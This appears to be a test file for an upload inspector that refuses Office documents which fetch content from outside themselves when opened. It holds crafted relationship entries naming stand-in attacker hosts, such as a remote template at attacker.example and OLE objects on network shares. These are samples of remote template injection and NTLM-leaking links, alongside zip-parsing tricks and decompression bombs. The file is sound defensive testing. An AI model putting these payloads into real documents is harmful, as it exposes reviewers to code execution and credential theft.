import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import {
  docxWithSettings,
  relationship,
  relationshipsPart,
} from '../../../../test/support/evidence-files.js';
import { DomainError } from '../../../kernel/src/index.js';
import { EvidenceInspector } from './evidence-inspector.js';
import { OFFICE_LIMITS } from './office-relationships.js';

/**
 * A review (2026-12-06): an Office document's own parts were not read, so a docx whose settings name a remote
 * template (remote template injection), or whose object, frame or linked workbook sits on `\\host\share` (a
 * reviewer's NTLM hash sent as Word opens it), was taken as evidence. Each zip here is written byte by byte.
 */
const inspect = async (content: Buffer, pieceBytes: number) => {
  const inspector = new EvidenceInspector('evidence.docx', {
    maxBytes: 20 * 1024 * 1024,
    refusal: () => new DomainError('file-too-large', 'too large', 'unprocessable', 'file'),
  });
  const pieces = Array.from({ length: Math.ceil(content.length / pieceBytes) }, (_, i) =>
    content.subarray(i * pieceBytes, (i + 1) * pieceBytes),
  );
  await buffer(Readable.from(pieces).pipe(inspector));
  return inspector.inspection.extension;
};

/** The verdict, the same however the file's pieces break (a header or signature split between two). */
const verdict = async (content: Buffer, pieces = [content.length, 65_536, 1000, 37, 3]) => {
  const outcomes = new Set<string>();
  for (const pieceBytes of pieces) {
    outcomes.add(
      await inspect(content, pieceBytes).then(
        (extension) => `taken as ${extension}`,
        (error: DomainError) => `${error.code} (${error.field}): ${error.message}`,
      ),
    );
  }
  expect(outcomes.size).toBe(1);
  return [...outcomes][0];
};
const code = async (content: Buffer, pieces?: number[]) => (await verdict(content, pieces)).split(' ')[0];

const template = relationship('attachedTemplate', 'https://attacker.example/template.dotm');

describe('an Office document that fetches content from outside itself as it opens', () => {
  it('refuses a remote template, naming the rule, the part and why', async () => {
    expect(await verdict(docxWithSettings(relationshipsPart(template)))).toBe(
      'file-has-external-content (file): The document fetches a template from outside itself when it is opened ' +
        '(word/_rels/settings.xml.rels), which could run code on a reviewer’s computer or send their sign-in to ' +
        'another server: remove that link, save the document and upload it again',
    );
  });

  it('refuses it however the zip is written: stored, deflated, sizes after the data', async () => {
    const rels = relationshipsPart(template);
    expect(await code(docxWithSettings(rels, [], true))).toBe('file-has-external-content');
    // A part stored as it is, not deflated.
    expect(
      await code(
        docxWithSettings(relationshipsPart(), [
          { name: 'word/_rels/footer1.xml.rels', content: rels, method: 0 },
        ]),
      ),
    ).toBe('file-has-external-content');
  });

  it('refuses each kind Word or Excel fetches on opening, and any non-hyperlink on a network path', async () => {
    const refused = [
      relationship('oleObject', '\\\\198.51.100.7\\share\\object.bin'),
      relationship('frame', 'http://attacker.example/frame.html'),
      relationship('subDocument', 'file:///\\\\attacker.example\\doc.docx'),
      relationship('externalLinkPath', 'smb://attacker.example/book.xlsx'),
      relationship('externalLink', 'https://attacker.example/book.xlsx'),
      relationship('image', 'https://attacker.example/pixel.png'),
      relationship('package', '\\\\attacker.example\\share\\x'),
      relationship('customXml', 'file://attacker.example/x.xml'),
    ];
    for (const one of refused) {
      expect([one, await code(docxWithSettings(relationshipsPart(one)))]).toEqual([
        one,
        'file-has-external-content',
      ]);
    }
  });

  it('keeps hyperlinks, and the same kinds inside the document', async () => {
    const kept = relationshipsPart(
      relationship('hyperlink', 'https://www.sevenoaks.gov.uk/neet'),
      relationship('hyperlink', '\\\\intranet\\policies\\neet.docx'),
      relationship('attachedTemplate', 'templates/normal.dotx', null),
      relationship('image', 'media/image1.png', 'Internal'),
    );
    expect(await verdict(docxWithSettings(kept))).toBe('taken as docx');
  });

  it('reads the relationship as XML does: references, quotes, prefixes, a > in a value, UTF-16', async () => {
    const rels = (element: string) => docxWithSettings(relationshipsPart(element));
    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
    for (const element of [
      `<Relationship Id="r1" Type="${type}" Target="http://a.example/t" TargetMode="&#69;xtern&#x61;l"/>`,
      `<Relationship Id='r1' Type='${type}' Target='http://a.example/t' TargetMode = 'external' />`,
      `<pr:Relationship xmlns:pr="x" Id="r1" Type="${type}" Target="http://a.example/t" TargetMode="External"/>`,
      `<Relationship Id="r1" Target="http://a.example/>" TargetMode="External" Type="${type}"></Relationship>`,
    ])
      expect([element, await code(rels(element))]).toEqual([element, 'file-has-external-content']);
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(relationshipsPart(template).replace('UTF-8', 'UTF-16'), 'utf16le'),
    ]);
    expect(
      await code(docxWithSettings(relationshipsPart(), [{ name: 'word/_rels/x.xml.rels', content: utf16 }])),
    ).toBe('file-has-external-content');
  });

  // Each part written with its size after its data was held as if it were as large as the limit allows: a
  // document of nine such relationship parts (an xlsx of a few sheets, as exceljs writes it) was refused.
  it('takes many relationship parts written with their sizes after the data, each held only to its end', async () => {
    const parts = Array.from({ length: 40 }, (_, i) => ({
      name: `word/_rels/footer${i}.xml.rels`,
      content: relationshipsPart(relationship('hyperlink', `https://www.sevenoaks.gov.uk/${i}`)),
    }));
    expect(await verdict(docxWithSettings(relationshipsPart(), parts, true), [65_536, 1000, 37])).toBe(
      'taken as docx',
    );
    const withTemplate = [
      ...parts,
      { name: 'word/_rels/last.xml.rels', content: relationshipsPart(template) },
    ];
    expect(await code(docxWithSettings(relationshipsPart(), withTemplate, true), [65_536, 37])).toBe(
      'file-has-external-content',
    );
  });

  it('refuses a relationships part the directory names but whose bytes are not where it says', async () => {
    // Its local header names another part: a reader going by the local headers would not read it; Word would.
    const crafted = docxWithSettings(relationshipsPart(), [
      {
        name: 'word/_rels/footer1.xml.rels',
        localName: 'word/_rels/footer1.xml.relz',
        content: relationshipsPart(template),
      },
    ]);
    expect(await code(crafted)).toBe('office-file-unreadable');
  });

  it('bounds the work: a part that unzips too far, too many parts or entries', async () => {
    const bomb = relationshipsPart(
      template.replace('Id=', `${' '.repeat(OFFICE_LIMITS.inflatedPartBytes)}Id=`),
    );
    expect(await code(docxWithSettings(bomb))).toBe('office-file-too-complex');
    const many = Array.from({ length: OFFICE_LIMITS.relationshipParts + 1 }, (_, i) => ({
      name: `p/_rels/${i}.xml.rels`,
      content: relationshipsPart(),
    }));
    // Large files: in whole and in network-sized pieces only, for time.
    expect(await code(docxWithSettings(relationshipsPart(), many), [65_536, 1000])).toBe(
      'office-file-too-complex',
    );
    const entries = Array.from({ length: OFFICE_LIMITS.entries + 1 }, (_, i) => ({
      name: `e/${i}`,
      content: '',
      method: 0 as const,
    }));
    expect(await code(docxWithSettings(relationshipsPart(), entries), [65_536, 1000])).toBe(
      'office-file-too-complex',
    );
  });
});
